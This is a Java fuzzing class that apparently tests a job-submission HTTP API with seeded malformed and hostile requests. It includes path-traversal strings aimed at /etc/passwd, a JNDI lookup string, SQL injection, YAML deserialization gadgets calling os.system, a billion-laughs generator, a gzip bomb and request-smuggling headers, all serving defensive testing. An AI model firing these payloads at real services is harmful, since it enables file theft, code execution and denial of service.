package io.accrete.node;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;

import io.accrete.node.ApiDocument.Operation;
import io.accrete.node.ServedNode.Who;
import io.accrete.protocol.http.ApiJson;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.Function;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Requests that nobody with good intentions sends, made from an OpenAPI document: each operation
 * and each of its parameters is tried. The same seed and number give the same request.
 */
final class HostileRequests {
    private static final int INFLATED = 256 << 20;
    private static final String CRLF = "\r\n";

    private final List<Operation> operations;
    private final List<Function<Random, HostileRequest>> kinds =
            List.of(
                    this::malformedJson,
                    this::deepJson,
                    this::notUtf8,
                    this::yaml,
                    this::pathThatLeaves,
                    this::recipeThatLeaves,
                    this::oddSegment,
                    this::oddQuery,
                    this::oddHeaders,
                    this::largeHeaders,
                    this::largeBody,
                    this::endlessChunks,
                    this::compressed,
                    this::guessedToken,
                    this::wrongMethod,
                    this::brokenProtocol,
                    this::unfinished);
    private final byte[] bomb;

    HostileRequests(List<Operation> operations) {
        this.operations = operations;
        this.bomb = gzip(new byte[1 << 20], INFLATED >> 20);
    }

    int kinds() {
        return kinds.size();
    }

    /** All kinds come in turn. */
    HostileRequest make(long seed, int number) {
        Random random = new Random(seed * 1_000_003 + number);
        return kinds.get(number % kinds.size()).apply(random);
    }

    private HostileRequest malformedJson(Random random) {
        byte[] body = ServedNode.merge("bad-" + random.nextInt(50), 2).getBytes(UTF_8);
        for (int change = 0; change <= random.nextInt(4); change++) {
            body[random.nextInt(body.length)] = (byte) (' ' + random.nextInt(95));
        }
        return submission("malformed JSON", random, "application/json", body);
    }

    private HostileRequest deepJson(Random random) {
        int depth = 1 << random.nextInt(17);
        String body =
                pick(
                        random,
                        "[".repeat(depth),
                        "{\"a\":".repeat(depth),
                        "[".repeat(depth) + "]".repeat(depth),
                        "{\"kind\":\"merge\",\"options\":{\"out_shard_size\":1e%d}}"
                                .formatted(depth),
                        "{\"kind\":\"merge\",\"options\":{\"flops\":%s}}"
                                .formatted("9".repeat(depth)),
                        "{\"kind\":\"%s\"}".formatted("\\u0000".repeat(depth)),
                        "{\"%s\":1}".formatted("k".repeat(depth)));
        return submission("deep JSON", random, "application/json", body.getBytes(UTF_8));
    }

    private HostileRequest notUtf8(Random random) {
        byte[] body = ServedNode.merge("bad", 2).getBytes(UTF_8);
        byte[][] bad = {
            {(byte) 0xC0, (byte) 0xAF}, // an overlong slash
            {(byte) 0xFF},
            {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF8, 0},
            {(byte) 0x80}
        };
        byte[] chosen = bad[random.nextInt(bad.length)];
        System.arraycopy(chosen, 0, body, random.nextInt(body.length - 2), chosen.length);
        String type = pick(random, "application/json", "application/yaml");
        return submission("bad UTF-8", random, type, body);
    }

    private HostileRequest yaml(Random random) {
        int depth = 1 << random.nextInt(15);
        String body =
                pick(
                        random,
                        laughs(9),
                        "kind: merge\noptions: &a {x: *a}\n",
                        "kind: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]",
                        "kind: !<tag:yaml.org,2002:python/object/apply:os.system> [id]",
                        "[".repeat(depth),
                        "- ".repeat(depth) + "x",
                        "? ".repeat(depth) + "x",
                        "kind: merge\nkind: train\n",
                        "%YAML 9.9\n---\nkind: merge\n",
                        "a: &a [1]\n" + "b: *a\n".repeat(20_000),
                        "x: \"" + "y".repeat(depth) + "\"",
                        "---\n".repeat(depth),
                        "\u0000kind: merge",
                        "kind: merge\nrecipe: |\n  <<: [*x]\noutput: y\n");
        return submission("YAML", random, "application/yaml", body.getBytes(UTF_8));
    }

    /** Ten values, ten times, ten times, ... */
    private static String laughs(int levels) {
        StringBuilder text = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
        for (int level = 1; level <= levels; level++) {
            String inner = ("*a" + (level - 1) + ",").repeat(10);
            text.append("a%d: &a%d [%s]\n".formatted(level, level, inner));
        }
        return text.append("options: *a").append(levels).append('\n').toString();
    }

    private static String leaving(Random random) {
        return pick(
                random,
                "..",
                "../../../../etc/passwd",
                "/etc/cron.d/job",
                "a/../../b",
                "way-out/x",
                "way-out/../x",
                "./way-out",
                "model/../../x",
                "%2e%2e/x",
                "..%2fx",
                "\u0000",
                "a\u0000/../../b",
                "~root",
                "//etc",
                "\\\\host\\share",
                "file:///etc/passwd",
                "x".repeat(1 << random.nextInt(15)),
                "a/".repeat(1 << random.nextInt(13)),
                "tokens",
                "state",
                "model",
                ".");
    }

    private HostileRequest pathThatLeaves(Random random) {
        String body =
                "{\"kind\":\"merge\",\"recipe\":%s,\"output\":%s}"
                        .formatted(
                                quoted("merge_method: passthrough\nslices: []"),
                                quoted(leaving(random)));
        return submission("path", random, "application/json", body.getBytes(UTF_8));
    }

    private HostileRequest recipeThatLeaves(Random random) {
        String model = quoted(leaving(random));
        boolean merge = random.nextBoolean();
        String text =
                merge
                        ? """
                        merge_method: passthrough
                        slices:
                          - sources: [{model: %s, layer_range: [0, 1]}]
                        """
                                .formatted(model)
                        : """
                        model: %s
                        data: {train: [%s], sequence_length: 16}
                        batch: {micro_batch: 1, accumulate: 1}
                        steps: 1
                        """
                                .formatted(model, quoted(leaving(random)));
        String body =
                "{\"kind\":\"%s\",\"%s\":%s,\"output\":\"bad-%d\"}"
                        .formatted(
                                merge ? "merge" : "train",
                                merge ? "recipe" : "job",
                                quoted(text),
                                random.nextInt(20));
        return submission("recipe", random, "application/json", body.getBytes(UTF_8));
    }

    private static String text(Random random) {
        return pick(
                random,
                "none",
                "..",
                "../../etc/passwd",
                "%2e%2e%2f",
                "\u0000",
                "a b",
                "\u00e9\ud83d\ude00",
                "'; DROP TABLE event_journal; --",
                "${jndi:ldap://x/y}",
                "-1",
                "0",
                "99999999999999999999",
                "NaN",
                "true",
                "[]",
                "x".repeat(1 << random.nextInt(13)));
    }

    private HostileRequest oddSegment(Random random) {
        Operation operation = any(random);
        String raw =
                random.nextBoolean()
                        ? URLEncoder.encode(text(random), UTF_8)
                        : pick(
                                random,
                                "%zz",
                                "%",
                                "..",
                                ".",
                                "//",
                                "%00",
                                "%c0%af",
                                "%2e%2e%2f",
                                ";");
        String path =
                operation.base() + operation.path().replaceAll("\\{\\w+}", "@").replace("@", raw);
        return request("segment", operation.verb(), path, Who.ADMIN, "", new byte[0]);
    }

    private HostileRequest oddQuery(Random random) {
        Operation operation = any(random);
        List<String> names = new ArrayList<>(List.of("nothing", "step", "limit"));
        for (JsonNode parameter : operation.parameters()) {
            names.add(parameter.path("name").asText("nothing"));
        }
        StringBuilder query = new StringBuilder("?");
        for (int i = 0; i <= random.nextInt(5); i++) {
            query.append(names.get(random.nextInt(names.size())))
                    .append('=')
                    .append(
                            random.nextInt(4) == 0
                                    ? pick(random, "%zz", "%", "&&==", "%00", "%ff%fe", "a=b=c")
                                    : URLEncoder.encode(text(random), UTF_8))
                    .append('&');
        }
        String path = operation.at("none") + query;
        return request("query", operation.verb(), path, Who.ADMIN, "", new byte[0]);
    }

    private HostileRequest oddHeaders(Random random) {
        Operation operation = any(random);
        String name =
                pick(
                        random,
                        "Idempotency-Key",
                        "Last-Event-ID",
                        "Accept",
                        "Accept-Encoding",
                        "Content-Type",
                        "Content-Encoding",
                        "Range",
                        "Expect",
                        "Connection",
                        "Upgrade",
                        "X-HTTP-Method-Override",
                        "Cookie",
                        "If-Match",
                        "If-None-Match");
        String value =
                pick(
                        random,
                        "",
                        ",,,",
                        "a/b;q=nonsense",
                        "*/*;q=2",
                        "bytes=0-0,".repeat(200),
                        "100-continue",
                        "websocket",
                        "br, zstd",
                        "\u00ff\u00fe",
                        "-5",
                        text(random).replaceAll("[^ -~]", "?"));
        return request(
                        "headers",
                        operation.verb(),
                        operation.at("none"),
                        Who.ADMIN,
                        name + ": " + value + CRLF,
                        "{}".getBytes(UTF_8))
                .cut();
    }

    private HostileRequest largeHeaders(Random random) {
        int size = 1 << (8 + random.nextInt(10));
        String headers =
                pick(
                        random,
                        "X-Large: " + "x".repeat(size) + CRLF,
                        "x".repeat(size) + ": 1" + CRLF,
                        "X-Many: 1\r\n".repeat(size / 8),
                        "Cookie: " + "a=b; ".repeat(size / 4) + CRLF);
        String path =
                random.nextBoolean() ? "/api/v1/jobs" : "/api/v1/jobs?cursor=" + "c".repeat(size);
        return request("large headers", "get", path, Who.READ, headers, new byte[0]).cut();
    }

    private HostileRequest largeBody(Random random) {
        byte[] body = new byte[(1 << 20) + 1 + random.nextInt(4 << 20)];
        HostileRequest whole = submission("large body", random, "application/json", body);
        if (random.nextBoolean()) {
            return whole.cut();
        }
        // announced and never sent
        String head =
                head("POST", "/api/v1/jobs", Who.SUBMIT)
                        + "Content-Length: "
                        + pick(random, "9999999999", "9223372036854775807", "99999999999999999999")
                        + CRLF
                        + CRLF;
        return new HostileRequest("large body", head.getBytes(ISO_8859_1), true, true, true, false);
    }

    private HostileRequest endlessChunks(Random random) {
        StringBuilder body = new StringBuilder();
        int chunks = 1 + random.nextInt(600);
        for (int i = 0; i < chunks; i++) {
            body.append("1000").append(CRLF).append("x".repeat(0x1000)).append(CRLF);
        }
        body.append(pick(random, "0\r\n\r\n", "zz\r\n", "-1\r\n", "ffffffffffffffff\r\n"));
        return raw(
                        "chunks",
                        head("POST", "/api/v1/jobs", Who.SUBMIT)
                                + "Transfer-Encoding: chunked"
                                + CRLF
                                + CRLF
                                + body)
                .cut();
    }

    private HostileRequest compressed(Random random) {
        byte[] plain = ServedNode.merge("bad", 2).getBytes(UTF_8);
        byte[] body =
                switch (random.nextInt(6)) {
                    case 0 -> bomb;
                    case 1 -> gzip(bomb, 1);
                    case 2 -> Arrays.copyOf(gzip(plain, 1), 20 + random.nextInt(20));
                    case 3 -> plain;
                    case 4 -> deflate(new byte[8 << 20]);
                    default -> {
                        byte[] broken = gzip(plain, 1);
                        broken[12 + random.nextInt(broken.length - 12)] ^= 0x55;
                        yield broken;
                    }
                };
        String encoding = pick(random, "gzip", "gzip", "gzip", "deflate", "br", "gzip, gzip");
        return request(
                "compressed",
                "post",
                "/api/v1/jobs" + pick(random, "", "?dryRun=true"),
                Who.SUBMIT,
                "Content-Type: application/json\r\nContent-Encoding: " + encoding + CRLF,
                body);
    }

    private HostileRequest guessedToken(Random random) {
        String right = Who.ADMIN.token();
        String guess =
                pick(
                        random,
                        "Bearer",
                        "Bearer ",
                        "Bearer  x",
                        "Basic YWRtaW46YWRtaW4=",
                        "Bearer " + right.substring(0, right.length() - 1),
                        "Bearer " + right + "x",
                        "Bearer " + right.toUpperCase(Locale.ROOT) + "!",
                        "Token " + right,
                        "Bearer " + "a".repeat(1 << random.nextInt(13)),
                        "Bearer \u00e9\u00ff",
                        "Digest username=\"admin\"");
        Operation operation = guarded(random);
        String head =
                "%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: %s\r\nContent-Length: 0\r\n\r\n"
                        .formatted(
                                operation.verb().toUpperCase(Locale.ROOT),
                                operation.at("none"),
                                guess);
        return new HostileRequest("token", head.getBytes(ISO_8859_1), false, false, false, false);
    }

    private HostileRequest wrongMethod(Random random) {
        String verb =
                pick(
                        random,
                        "put",
                        "patch",
                        "delete",
                        "options",
                        "trace",
                        "head",
                        "connect",
                        "brew",
                        "g\u00e9t",
                        "x".repeat(1 << random.nextInt(8)));
        String path = any(random).at(pick(random, "none", "a/b", ""));
        return request("method", verb, path, Who.READ, "", new byte[0]).cut();
    }

    private HostileRequest brokenProtocol(Random random) {
        String target = "/api/v1/jobs";
        String bytes =
                pick(
                        random,
                        "GET " + target + "\r\n\r\n",
                        "GET " + target + " HTTP/9.9\r\nHost: x\r\n\r\n",
                        "GET  " + target + "  HTTP/1.1\r\n\r\n",
                        "GET " + target + " HTTP/1.1\nHost: x\n\n",
                        "GET " + target + " HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
                        "POST "
                                + target
                                + " HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
                                + "Content-Length: 6\r\n\r\n{}",
                        "POST " + target + " HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
                        "POST "
                                + target
                                + " HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
                                + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x",
                        "\u0000\u0000\u0000\u0000\r\n\r\n",
                        "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003\r\n\r\n",
                        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                        "GET http://[::1 HTTP/1.1\r\nHost: x\r\n\r\n",
                        "GET /\u00ff\u00fe HTTP/1.1\r\nHost: \u00ff\r\n\r\n",
                        " : \r\n\r\n");
        return raw("protocol", bytes).cut();
    }

    /** A part of a request, on a connection that stays open. */
    private HostileRequest unfinished(Random random) {
        byte[] whole =
                submission(
                                "unfinished",
                                random,
                                "application/json",
                                ServedNode.merge("bad", 2).getBytes(UTF_8))
                        .bytes();
        byte[] part = Arrays.copyOf(whole, random.nextInt(whole.length));
        return new HostileRequest("unfinished", part, true, true, true, true);
    }

    private HostileRequest submission(String kind, Random random, String type, byte[] body) {
        return request(
                kind,
                "post",
                "/api/v1/jobs" + pick(random, "", "?dryRun=true"),
                random.nextInt(5) == 0 ? Who.READ : Who.SUBMIT,
                "Content-Type: " + type + CRLF,
                body);
    }

    private static HostileRequest request(
            String kind, String verb, String path, Who who, String headers, byte[] body) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        String length = "Content-Length: " + body.length + CRLF;
        bytes.writeBytes(
                (head(verb.toUpperCase(Locale.ROOT), path, who) + headers + length + CRLF)
                        .getBytes(ISO_8859_1));
        bytes.writeBytes(body);
        return new HostileRequest(kind, bytes.toByteArray(), who != Who.READ, true, false, false);
    }

    private static HostileRequest raw(String kind, String text) {
        return new HostileRequest(kind, text.getBytes(ISO_8859_1), false, true, false, false);
    }

    private static String head(String verb, String path, Who who) {
        return "%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer %s\r\n"
                .formatted(verb, path, who.token());
    }

    private Operation any(Random random) {
        return operations.get(random.nextInt(operations.size()));
    }

    private Operation guarded(Random random) {
        List<Operation> guarded =
                operations.stream()
                        .filter(one -> one.description().path("responses").has("401"))
                        .filter(one -> !one.path().equals("/metrics"))
                        .toList();
        return guarded.get(random.nextInt(guarded.size()));
    }

    private static String pick(Random random, String... texts) {
        return texts[random.nextInt(texts.length)];
    }

    private static String quoted(String text) {
        return ApiJson.write(text);
    }

    /** The same bytes again and again. */
    private static byte[] gzip(byte[] block, int times) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            for (int i = 0; i < times; i++) {
                out.write(block);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] deflate(byte[] block) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bytes)) {
            out.write(block);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
